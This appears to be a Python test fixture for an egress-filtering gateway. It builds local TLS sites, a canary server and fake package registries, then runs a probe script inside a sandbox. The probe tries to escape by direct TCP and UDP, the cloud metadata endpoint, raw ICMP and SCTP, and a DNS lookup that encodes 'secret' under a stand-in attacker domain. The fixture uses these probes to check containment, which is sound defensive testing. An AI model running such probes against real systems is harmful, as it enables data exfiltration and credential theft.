"""The world of the egress tests: sites with and without TLS, packages, a lab whose box may reach some."""

from __future__ import annotations

import base64
import contextlib
import hashlib
import http.server
import io
import json
import os
import ssl
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from e2e_lab import Lab, lab

from thopter.gateway.egress.authority import Mint, make_authority

# Addresses of this machine that proxy variables do not leave out; nothing else listens on them.
HOST, OPEN, CANARY = "127.0.0.2", "127.0.0.3", "127.0.0.4"
NAME = "registry.test"  # HOST, where the gateway can be shown another /etc/hosts (as root)
ROOT = os.geteuid() == 0


class Site:
    """A file server with TLS (or none) that remembers what it was asked."""

    def __init__(self, host: str, folder: Path, context: ssl.SSLContext | None) -> None:
        self.asked: list[tuple[str, str, dict[str, str]]] = []
        site = self

        class Handler(http.server.SimpleHTTPRequestHandler):
            def __init__(self, *args: Any) -> None:
                super().__init__(*args, directory=str(folder))

            def parse_request(self) -> bool:
                fine = super().parse_request()
                if fine:
                    site.asked.append((self.command, self.path, dict(self.headers)))
                return fine

            def do_PUT(self) -> None:
                self.send_response(201)
                self.send_header("content-length", "0")
                self.end_headers()

            do_POST = do_PUT

            def log_message(self, *args: Any) -> None:
                return

        class Server(http.server.ThreadingHTTPServer):
            def get_request(self) -> Any:
                sock, peer = super().get_request()
                return (context.wrap_socket(sock, server_side=True) if context else sock), peer

            def handle_error(self, *args: Any) -> None:
                return  # a client that breaks off a handshake

        self.server = Server((host, 0), Handler)
        self.port = self.server.server_address[1]
        self.thread = threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05})
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self.thread.join()


class World:
    """The lab with its sites."""

    def __init__(self, made: Lab, folder: Path, context: Any) -> None:
        self.lab = made
        self.folder = folder
        self.secure = Site(HOST, folder, context(HOST))
        self.plain = Site(HOST, folder, None)
        self.named = Site(HOST, folder, context(NAME if ROOT else HOST))
        self.open = Site(OPEN, folder, context(OPEN))
        self.canary = Site(CANARY, folder, None)

    def close(self) -> None:
        for site in (self.secure, self.plain, self.named, self.open, self.canary):
            site.close()

    def box(self, *argv: str, check: bool = True) -> Any:
        return self.lab.run("exec", "nemo", "--", *argv, check=check)

    def sh(self, script: str, check: bool = True) -> Any:
        return self.box("sh", "-c", script, check=check)


def policy_text(w: World, **more: str) -> str:
    loop = 'addresses = ["127.0.0.0/8"]'
    return f"""
default = "team"
[policies.team]
{more.get("top", "")}
[[policies.team.hosts]]
host = ["{HOST}", "{NAME}"]
ports = [{w.secure.port}, {w.plain.port}, {w.named.port}]
methods = ["GET", "HEAD"]
plain = true
{loop}
[[policies.team.hosts]]
host = "{OPEN}"
ports = [{w.open.port}]
{more.get("open", "")}
{loop}
"""


def files(folder: Path) -> None:
    """Packages as registries serve them: a wheel, an npm package, an apt list, a repository."""
    folder.joinpath("hello.txt").write_text("hello from outside\n")
    wheel = io.BytesIO()
    with zipfile.ZipFile(wheel, "w") as z:
        z.writestr("tinypkg/__init__.py", "WORD = 'tiny'\n")
        z.writestr("tinypkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: tinypkg\nVersion: 1.0\n")
        z.writestr(
            "tinypkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        z.writestr("tinypkg-1.0.dist-info/RECORD", "")
    index = folder / "simple/tinypkg"
    index.mkdir(parents=True)
    (index / "tinypkg-1.0-py3-none-any.whl").write_bytes(wheel.getvalue())
    (index / "index.html").write_text(
        '<a href="tinypkg-1.0-py3-none-any.whl">tinypkg-1.0-py3-none-any.whl</a>'
    )
    (folder / "apt").mkdir()
    (folder / "apt/Packages").write_text("")


def npm_package(folder: Path, base: str) -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz") as tar:
        text = json.dumps({"name": "tinypkg", "version": "1.0.0", "main": "index.js"}).encode()
        for name, body in (("package.json", text), ("index.js", b"module.exports = 'tiny'\n")):
            info = tarfile.TarInfo(f"package/{name}")
            info.size = len(body)
            tar.addfile(info, io.BytesIO(body))
    (folder / "tinypkg-1.0.0.tgz").write_bytes(raw.getvalue())
    integrity = "sha512-" + base64.b64encode(hashlib.sha512(raw.getvalue()).digest()).decode()
    dist = {"tarball": f"{base}/tinypkg-1.0.0.tgz", "integrity": integrity}
    version = {"name": "tinypkg", "version": "1.0.0", "dist": dist}
    about = {"name": "tinypkg", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": version}}
    (folder / "tinypkg").write_text(json.dumps(about))


def start_gateway(made: Lab) -> None:
    """Start the egress gateway where ``NAME`` is an address; the hub adopts it."""
    hosts = made.folder / "hosts"
    hosts.write_text(Path("/etc/hosts").read_text() + f"\n{HOST} {NAME}\n")
    argv = [
        sys.executable,
        "-m",
        "thopter.gateway.egress",
        "--socket",
        str(made.paths.runtime / "egress.sock"),
    ]
    argv += ["--state", str(made.paths.state)]
    for path in (made.paths.state, made.paths.runtime):
        path.mkdir(parents=True, exist_ok=True, mode=0o700)
    script = f'mount --bind {hosts} /etc/hosts && exec "$@"'
    done = subprocess.run(
        ["unshare", "-m", "sh", "-c", script, "sh", *argv], env=made.env, capture_output=True, check=False
    )
    assert b"ready" in done.stdout, done


@contextlib.contextmanager
def world() -> Iterator[World]:
    with lab() as made:
        folder = made.folder / "site"
        folder.mkdir()
        files(folder)
        cert, key = make_authority("test servers", time.time())
        mint = Mint(cert, key)
        trust = made.folder / "trust.pem"
        trust.write_text(cert)
        made.env["SSL_CERT_FILE"] = str(trust)
        w = World(made, folder, lambda host: mint.context(host, time.time()))
        try:
            npm_package(folder, f"https://{NAME if ROOT else HOST}:{w.named.port}")
            if ROOT:
                start_gateway(made)
            config = made.folder / "config"
            config.mkdir(exist_ok=True, mode=0o700)
            (config / "policy.toml").write_text(policy_text(w))
            (config / "policy.toml").chmod(0o600)
            repo = made.repo("src", {"a.txt": "from git\n"})
            made.git(repo, "clone", "-q", "--bare", str(repo), str(folder / "proj.git"))
            made.git(folder / "proj.git", "update-server-info")
            made.run("run", "--name", "nemo", "-d", "say hello")
            made.rest("nemo")
            yield w
            assert w.canary.asked == [], "the canary was asked"
        finally:
            w.close()


# Run in the box: every way out that is not the proxy. Prints what could be done, one word each.
PROBE = """
import socket, sys
canary, port, outer = sys.argv[1], int(sys.argv[2]), sys.argv[3]
def tcp(family, host, port):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3); s.connect((host, port)); return True
def udp(family, host, port):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(b"canary", (host, port))
    return bool(s.recvfrom(100))
def raw(kind):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, kind); s.settimeout(1)
    s.sendto(bytes([8, 0, 247, 255, 0, 0, 0, 0]), (outer, 0)); s.recvfrom(100)
    return s.recvfrom(100)[1][0] == outer
ways = {
    "tcp": lambda: tcp(socket.AF_INET, canary, port), "tcp-outer": lambda: tcp(socket.AF_INET, outer, port),
    "metadata": lambda: tcp(socket.AF_INET, "169.254.169.254", 80),
    "tcp6": lambda: tcp(socket.AF_INET6, "::ffff:" + canary, port),
    "udp": lambda: udp(socket.AF_INET, outer, 53), "udp6": lambda: udp(socket.AF_INET6, "2001:db8::1", 53),
    "resolver": lambda: udp(socket.AF_INET, "127.0.0.53", 53),
    "multicast": lambda: udp(socket.AF_INET, "224.0.0.251", 5353),
    "name": lambda: bool(socket.getaddrinfo("c2VjcmV0.evil.test", 80)),
    "icmp": lambda: raw(1), "sctp": lambda: raw(132),
    "proxy": lambda: tcp(socket.AF_INET, "127.0.0.1", 8403),
}
for name, way in ways.items():
    try:
        done = way()
    except OSError:
        done = False
    if done:
        print(name)
"""
